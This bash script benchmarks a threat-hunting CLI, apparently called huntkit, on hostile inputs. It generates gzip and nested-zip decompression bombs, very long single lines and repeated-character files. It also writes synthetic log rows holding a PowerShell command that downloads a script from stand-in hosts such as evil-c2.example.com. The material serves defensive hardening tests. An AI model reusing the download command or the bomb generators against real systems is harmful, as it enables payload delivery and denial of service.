#!/usr/bin/env bash
# Hostile-input figures for the README's Hardening section (issue #16),
# measured on the release CLI with /usr/bin/time -v (wall time, peak RSS):
#
#  1. decompression bombs: a 1 GiB gzip bomb (one gzip member) and a
#     42.zip-style nested zip (16 copies per level, 5 levels over 16 × 1 MiB
#     members of zeros), each base64-encoded in a text file, through
#     `huntkit decode`;
#  2. hangs: a 1 GB single line and 100 MB files of one repeated character
#     through the IoC scan, decode and the CSV/NDJSON/JSON table readers,
#     against the throughput of ordinary log lines.
#
#   bash scripts/bench-hardening.sh [bombs|hangs|csv|all]   (default all)
#
# `csv` runs only the CSV table reader over the hang inputs (a few minutes:
# the rows the header's column cap changed).
#
# Inputs are generated under $HUNTKIT_CACHE/bench-hardening (kept between
# runs, about 1.6 GB); nothing is committed. Not a test: prints a table.
set -euo pipefail
source "$(dirname "$0")/env.sh"
cd "$HUNTKIT_ROOT"
what="${1:-all}"
dir="$HUNTKIT_CACHE/bench-hardening"
mkdir -p "$dir"
[ -n "${HUNTKIT_BENCH_NO_BUILD:-}" ] || cargo build -q --release -p huntkit
hk="$CARGO_TARGET_DIR/release/huntkit"

# Runs a command, prints "wall_s peak_MB exit cpu_s" (its output is
# dropped). CPU seconds (user + system) are given too: on a shared machine
# the wall time also counts the other processes' turns.
measure() {
  local t
  t="$(mktemp)"
  set +e
  # 4 GiB of address space at most: a reader that would take more fails
  # (and shows as a non-zero exit) instead of starving the machine.
  /usr/bin/time -v -o "$t" bash -c 'ulimit -v 4194304; exec "$@"' _ "$@" >/dev/null 2>"$t.err"
  local rc=$?
  set -e
  local wall rss
  wall="$(sed -n 's/.*Elapsed (wall clock) time (h:mm:ss or m:ss): //p' "$t" | awk -F: '{ if (NF == 3) print $1*3600+$2*60+$3; else print $1*60+$2 }')"
  rss="$(sed -n 's/.*Maximum resident set size (kbytes): //p' "$t")"
  local cpu
  cpu="$(awk -F': ' '/User time|System time/ { s += $2 } END { printf "%.2f", s }' "$t")"
  echo "$wall $((rss / 1024)) $rc $cpu"
  tail -3 "$t.err" >"$dir/last.err"
  rm -f "$t" "$t.err"
}

bombs() {
  python3 - "$dir" <<'PY'
import base64, io, sys, zipfile, zlib
from pathlib import Path
d = Path(sys.argv[1])
gz = d / "gzip_bomb_1gib.txt"
if not gz.exists():
    # One gzip member of 1 GiB of zeros, made in 1 MiB steps by zlib.
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    zero = bytes(1 << 20)
    out = [c.compress(zero) for _ in range(1024)]
    out.append(c.flush())
    gz.write_text("payload " + base64.b64encode(b"".join(out)).decode() + "\n")
nz = d / "nested_zip_bomb.txt"
if not nz.exists():
    def zip_of(prefix, member, copies):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
            for i in range(copies):
                z.writestr(f"{prefix}{i}", member)
        return buf.getvalue()
    z = zip_of("0.dat", bytes(1 << 20), 16)
    for level in range(1, 6):
        z = zip_of(f"lib{level}_", z, 16)
    nz.write_text(base64.b64encode(z).decode() + "\n")
PY
  printf '| bomb | encoded size | wall s | CPU s | peak RSS MB | warning |\n|---|---|---|---|---|---|\n'
  for f in gzip_bomb_1gib nested_zip_bomb; do
    read -r wall rss rc cpu < <(measure "$hk" decode --format csv "$dir/$f.txt")
    warning="$(grep -o 'warning: .*' "$dir/last.err" | head -1 | cut -c10-90)"
    [ "$rc" = 0 ] || warning="exit $rc"
    printf '| %s | %s | %s | %s | %s | %s |\n' "$f" "$(du -h "$dir/$f.txt" | cut -f1)" "$wall" "$cpu" "$rss" "$warning"
  done
}

# Writes the hang inputs once (about 2 GB under $dir).
hang_inputs() {
  python3 - "$dir" <<'PY'
import random, sys
from pathlib import Path
d = Path(sys.argv[1])
rnd = random.Random(16)
def line(i):
    ip = f"10.{rnd.randrange(256)}.{rnd.randrange(256)}.{rnd.randrange(256)}"
    host = rnd.choice(["evil-c2.example.com", "cdn.badsite.ru", "intranet.corp.local", "update.microsoft.com"])
    return (f"2024-01-01T00:{i % 60:02d}:00Z,host{i % 97},"
            f"\"powershell -nop -c iwr http://{host}/a{i}.ps1 -OutFile C:\\\\Temp\\\\x{i}.exe\",{ip},{i}\n")
normal = d / "normal_100mb.csv"
if not normal.exists():
    with normal.open("w") as f:
        f.write("TimeGenerated,Computer,CommandLine,SrcIp,Pid\n")
        n, i = 0, 0
        while n < 100 << 20:
            s = line(i); f.write(s); n += len(s); i += 1
one = d / "single_line_1gb.txt"
if not one.exists():
    block = normal.read_bytes().replace(b"\n", b" ")
    with one.open("wb") as f:
        for _ in range(10):
            f.write(block)
    with one.open("ab") as f:
        f.write(b"\n")
for name, ch in [("a", b"a"), ("A", b"A"), ("zero", b"0"), ("dot", b"."), ("quote", b'"'),
                 ("comma", b","), ("bracket", b"["), ("brace", b"{"), ("space", b" ")]:
    p = d / f"repeat_{name}_100mb.txt"
    if not p.exists():
        p.write_bytes(ch * (100 << 20))
PY
}

# Runs `label`'s command on `file`; prints one table row.
run() {
  local file="$1" label="$2"
  shift 2
  local mb
  mb="$(( $(stat -c %s "$file") / 1000000 ))"
  read -r wall rss rc cpu < <(measure "$@" "$file")
  printf '| %s | %s | %s | %s | %s | %s | %s | %s |\n' "$(basename "$file")" "$label" "$mb" "$wall" "$cpu" \
    "$(awk -v m="$mb" -v w="$cpu" 'BEGIN { printf "%.0f", (w > 0 ? m / w : 0) }')" "$rss" "$rc"
}

hang_header() {
  printf '| input | command | MB | wall s | CPU s | MB/s (CPU) | peak RSS MB | exit |\n|---|---|---|---|---|---|---|---|\n'
}

hangs() {
  hang_inputs
  hang_header
  n="$dir/normal_100mb.csv"
  run "$n" "ioc (text)" "$hk" ioc --input-format text --format csv
  run "$n" "decode (text)" "$hk" decode --input-format text --format csv
  run "$n" "ioc (csv table)" "$hk" ioc --input-format csv --format csv
  run "$dir/single_line_1gb.txt" "ioc (text)" "$hk" ioc --input-format text --format csv
  run "$dir/single_line_1gb.txt" "decode (text)" "$hk" decode --input-format text --format csv
  run "$dir/single_line_1gb.txt" "ioc (csv table)" "$hk" ioc --input-format csv --format csv
  for f in "$dir"/repeat_*_100mb.txt; do
    run "$f" "ioc (text)" "$hk" ioc --input-format text --format csv
    run "$f" "decode (text)" "$hk" decode --input-format text --format csv
    run "$f" "ioc (csv table)" "$hk" ioc --input-format csv --format csv
    run "$f" "ioc (ndjson table)" "$hk" ioc --input-format ndjson --format csv
    run "$f" "ioc (json table)" "$hk" ioc --input-format json --format csv
  done
}

# The CSV table reader alone, on every hang input.
csv() {
  hang_inputs
  hang_header
  for f in "$dir/normal_100mb.csv" "$dir/single_line_1gb.txt" "$dir"/repeat_*_100mb.txt; do
    run "$f" "ioc (csv table)" "$hk" ioc --input-format csv --format csv
  done
}

case "$what" in
  bombs) bombs ;;
  hangs) hangs ;;
  csv) csv ;;
  *) bombs; hangs ;;
esac
